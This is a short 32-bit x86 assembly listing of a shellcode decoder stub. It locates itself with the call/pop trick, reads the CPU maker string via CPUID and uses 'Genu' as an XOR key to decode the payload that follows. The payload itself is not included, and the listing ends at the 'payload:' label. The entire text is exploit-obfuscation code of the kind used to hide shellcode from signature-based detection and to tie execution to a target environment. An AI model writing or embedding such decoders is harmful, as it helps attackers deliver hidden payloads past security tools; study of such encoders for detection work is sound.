; Decoder: the key is a part of the processor's maker's name (cpuid): "Genu".
bits 32
        jmp short start
length: dw 0
start:  call here
here:   pop esi
        push esi
        xor eax, eax
        cpuid
        pop esi
        movzx ecx, word [esi + length - here]
        add ecx, byte 3
        shr ecx, 2
        add esi, byte payload - here
again:  xor [esi], ebx
        add esi, byte 4
        loop again
payload:
